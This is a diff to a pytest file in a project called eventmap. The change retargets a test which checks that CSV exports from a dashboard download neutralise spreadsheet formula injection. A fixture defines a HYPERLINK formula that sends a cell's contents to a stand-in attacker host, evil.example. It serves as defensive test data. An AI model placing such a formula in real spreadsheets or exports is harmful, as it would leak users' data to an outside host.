@@ -22,7 +22,7 @@ from html.parser import HTMLParser
 import pytest
 
 from eventmap.store import EventFilter, open_store
-from eventmap.views import dashboard as dash
+from eventmap.ui import downloads
 
 FORMULA_SOURCE = '=HYPERLINK("http://evil.example/?leak="&A2,"Reuters")'
 AT_SENTENCE = ("@Reuters: Syrian government forces shelled the town of Tafas in Deraa province on Tuesday, "
@@ -71,7 +71,7 @@ def test_csv_of_events_and_export_and_download_neutralise_formulas(store_with_fo
                       "@Reuters: Syrian government forces")
     with open_store(db) as s:
         frame = s.query(EventFilter())
-    data, name, _ = dash.export_bytes(frame, "csv")             # the dashboard's download button
+    data, name, _ = downloads.download(frame, "csv")             # the dashboard's download button
     if name.endswith(".zip"):                                   # the CSV zipped with its .meta.json
         with zipfile.ZipFile(io.BytesIO(data)) as z:
             data = z.read(next(n for n in z.namelist() if n.endswith(".csv")))
